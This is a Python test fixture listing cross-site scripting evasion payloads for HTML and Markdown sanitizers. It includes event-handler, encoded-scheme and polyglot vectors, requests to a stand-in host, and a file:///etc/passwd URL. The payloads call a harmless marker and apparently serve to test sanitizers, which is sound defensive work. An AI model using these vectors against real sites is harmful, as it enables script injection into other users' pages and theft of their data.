"""What makes other pages do somebody's bidding: OWASP's filter evasion list, as far as today's
Chromium still falls for it, and what has been tried on Markdown libraries. All of it calls `fire()`, or asks elsewhere.
"""

from typing import Final

ELSEWHERE: Final = "http://elsewhere.invalid/"

HTML: Final = [
    "<script>fire()</script>",
    "<ScRiPt>fire()</sCrIpT>",
    "<script/x>fire()</script>",
    '<script src="data:text/javascript,fire()"></script>',
    "<<script>fire();//<</script>",
    '"><script>fire()</script>',
    "</title><script>fire()</script>",
    "</textarea><script>fire()</script>",
    "<img src=x onerror=fire()>",
    '<img src="x" onerror="fire()">',
    "<img/src/onerror=fire()>",
    '<IMG """><SCRIPT>fire()</SCRIPT>">',
    "<img src=x onerror=&#102;&#105;&#114;&#101;&#40;&#41;>",
    "<img src=x onerror=&#x66&#x69&#x72&#x65()>",
    "<img src=x onerror=\"eval('fi'+'re()')\">",
    "<img src=x\tonerror\n=\nfire()>",
    "<svg onload=fire()>",
    "<svg/onload=fire()>",
    "<svg><script>fire()</script></svg>",
    "<svg><animate onbegin=fire() attributeName=x dur=1s>",
    "<body onload=fire()>",
    '<iframe src="javascript:parent.fire()"></iframe>',
    '<iframe srcdoc="<script>parent.fire()</script>"></iframe>',
    "<iframe onload=fire()></iframe>",
    "<video><source onerror=fire()></video>",
    "<video src=x onerror=fire()></video>",
    "<audio src=x onerror=fire()></audio>",
    "<details open ontoggle=fire()>x</details>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=fire()>x</b>",
    "<link rel=stylesheet href=x onerror=fire()>",
    '<noscript><p title="</noscript><img src=x onerror=fire()>"></noscript>',
    "<!--><img src=x onerror=fire()>-->",
    '<a href="javascript:fire()">click</a>',
    '<a href="java&#10;script:fire()">click</a>',
    '<a href="\x01javascript:fire()">click</a>',
    '<svg><a href="javascript:fire()"><text y="20">click</text></a></svg>',
    '<form action="javascript:fire()"><button>click</button></form>',
    '<form><button formaction="javascript:fire()">click</button></form>',
    "<button onclick=fire()>click</button>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=fire() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=fire()//>\\x3e",
]

MARKDOWN: Final = [
    "[click](javascript:fire())",
    "[click](JaVaScRiPt:fire())",
    "[click](javascript&colon;fire())",
    "[click](&#106;avascript:fire())",
    "[click](java&Tab;script:fire())",
    "[click](<javascript:fire()>)",
    '[click](javascript:fire() "a title")',
    "[click][1]\n\n[1]: javascript:fire()",
    "<javascript:fire()>",
    "**<img src=x onerror=fire()>**",
    "# <img src=x onerror=fire()>",
    "| a |\n|---|\n| <img src=x onerror=fire()> |",
    "[<img src=x onerror=fire()>](https://example.org)",
    "![x](x) <img src=x onerror=fire()>",
]

ASKING: Final = [
    f"<img src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import url({ELSEWHERE})</style>",
    f'<b style="background:url({ELSEWHERE})">x</b>',
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<video poster={ELSEWHERE}></video>",
    f"<object data={ELSEWHERE}></object>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"![x]({ELSEWHERE})",
]

SCHEMES: Final = [
    "data:text/html,<script>fire()</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=",
    "vbscript:fire()",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "view-source:https://example.org",
    "//elsewhere.invalid/",
]


def everywhere(vector: str) -> str:
    """One message with the vector in every place that Markdown has for it."""
    places = [
        "{}", "**{}**", "> {}", "- a\n- {}", "[{}](https://example.org)", '[x](https://example.org "{}")', "[x]({})",
        "`{}`", "```html\n{}\n```",
    ]  # fmt: skip
    return "\n\n".join(place.format(vector) for place in places)
